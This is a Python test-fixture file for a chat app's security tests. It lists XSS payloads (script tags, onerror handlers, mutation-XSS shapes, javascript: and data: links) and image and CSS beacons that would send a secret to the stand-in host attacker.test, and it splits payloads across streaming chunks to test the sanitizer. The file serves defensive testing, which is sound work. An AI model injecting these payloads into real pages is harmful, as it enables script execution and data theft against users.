"""docs/security.md T12, T13, T14 and T17: hostile text a model (or a title) may contain.

Every payload that could run sets ``window.__pwned`` (or ``parent.__pwned``); every payload
that could leak loads something from ``attacker.test``. The browser tests assert that nothing
ran, no element carries an ``on*`` attribute, every link is http, https or mailto, no request
left Parley's origin and the CSP reported no violation.
"""

PAYLOADS = [
    "<script>window.__pwned=1</script>",
    '<img src=x onerror="window.__pwned=1">',
    '<svg onload="window.__pwned=1"><circle r=5></svg>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    # mutation XSS shapes that fooled older sanitizers
    '<math><mtext><table><mglyph><style><img src=x onerror="window.__pwned=1">',
    '<svg><style><img src=x onerror="window.__pwned=1"></style></svg>',
    '<noscript><p title="</noscript><img src=x onerror=window.__pwned=1>">',
    "[click me](javascript:window.__pwned=1)",
    "[Mixed case](JaVaScRiPt:window.__pwned=1)",
    "[tab inside](java\tscript:window.__pwned=1)",
    "[entity inside](java&#9;script:window.__pwned=1)",
    "[entity colon](javascript&colon;window.__pwned=1)",
    "[data url](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+)",
    "[vb](vbscript:msgbox(1))",
    "<javascript:window.__pwned=1>",
    "[reference][evil]\n\n[evil]: javascript:window.__pwned=1",
    '<a href="javascript:window.__pwned=1">raw anchor</a>',
    "```svg\n<svg xmlns='http://www.w3.org/2000/svg' onload='window.__pwned=1'>"
    "<script>window.__pwned=1</script></svg>\n```",
    "```html\n</code></pre><img src=x onerror=window.__pwned=1>\n```",
    "`</code><img src=x onerror=window.__pwned=1>`",
    # T17: exfiltration beacons: images are shown as links, never fetched
    "![secret](https://attacker.test/p.png?d=SECRET)",
    "![protocol relative](//attacker.test/q.png?d=SECRET)",
    "![ref image][img]\n\n[img]: https://attacker.test/r.png?d=SECRET",
    '<img src="https://attacker.test/s.png?d=SECRET">',
    '<link rel="stylesheet" href="https://attacker.test/x.css">',
    '<base href="https://attacker.test/">',
    '<meta http-equiv="refresh" content="0;url=https://attacker.test/">',
    '<form action="https://attacker.test/"><button>Win</button></form>',
    "<style>@import url(https://attacker.test/y.css); body{display:none}</style>",
    # maths with commands that could make links or raw HTML if trusted
    r"$\href{javascript:window.__pwned=1}{click}$ and $$\htmlClass{x}{y}\url{javascript:alert(1)}$$",
    r"\(\unicode{<img src=x onerror=window.__pwned=1>}\)",
]

# Split points that cut tags, attributes and link schemes mid-way (T13).
DELTAS = [
    ["Safe start <im", "g src=x oner", "ror=window.__pwned=1>", " and more"],
    ["[x](java", "script:window.__pwned=1)", " trailing"],
    ["<scr", "ipt>window.__pw", "ned=1</scr", "ipt>"],
    ["![beacon](https://attack", "er.test/p.png?d=SEC", "RET)"],
    ["```\n<svg onl", "oad=window.__pwned=1>\n", "```\n<svg onload=window.__pwned=1>"],
    ['<a href="jav', 'ascript:window.__pwned=1">x</', "a>"],
    ["$\\href{java", "script:window.__pwned=1}{m}$"],
    ["<math><mtext><table><mglyph><sty", "le><img src=x one", "rror=window.__pwned=1>"],
]

TITLES = [
    '<img src=x onerror="window.__pwned=1">',
    "<script>window.__pwned=1</script>",
    '"><svg onload=window.__pwned=1>',
    "</title><script>window.__pwned=1</script>",
]

ALLOWED_SCHEMES = ("http:", "https:", "mailto:")

# In-page check of the thread (or any root): returns a list of problems.
CHECK_DOM = """
(root) => {
  const problems = [];
  const scope = root ? document.querySelector(root) : document;
  // KaTeX's own output (MathML, SVG, CSSOM styles) is generated, not parsed from the input.
  const ours = (el) => el.closest(".katex");
  for (const el of scope.querySelectorAll("*")) {
    if (ours(el)) continue;
    for (const attr of el.attributes) {
      if (/^on/i.test(attr.name)) problems.push(`on* attribute ${attr.name} on <${el.localName}>`);
      // Styles set through CSSOM (the composer's height) are allowed; none may come from content.
      if (root && attr.name === "style") problems.push(`style attribute on <${el.localName}>`);
    }
  }
  for (const a of scope.querySelectorAll("a[href]")) {
    const url = new URL(a.getAttribute("href"), location.href);
    if (!["http:", "https:", "mailto:"].includes(url.protocol)) problems.push(`link scheme ${url.protocol}`);
  }
  const banned = "script, iframe, object, embed, img, svg:not(.icon), math, style, form, meta, base, link, noscript";
  if (root) {
    for (const el of scope.querySelectorAll(banned)) {
      if (!ours(el)) problems.push(`element <${el.localName}> in ${root}`);
    }
  }
  if (window.__pwned) problems.push("window.__pwned is set");
  return problems;
}
"""
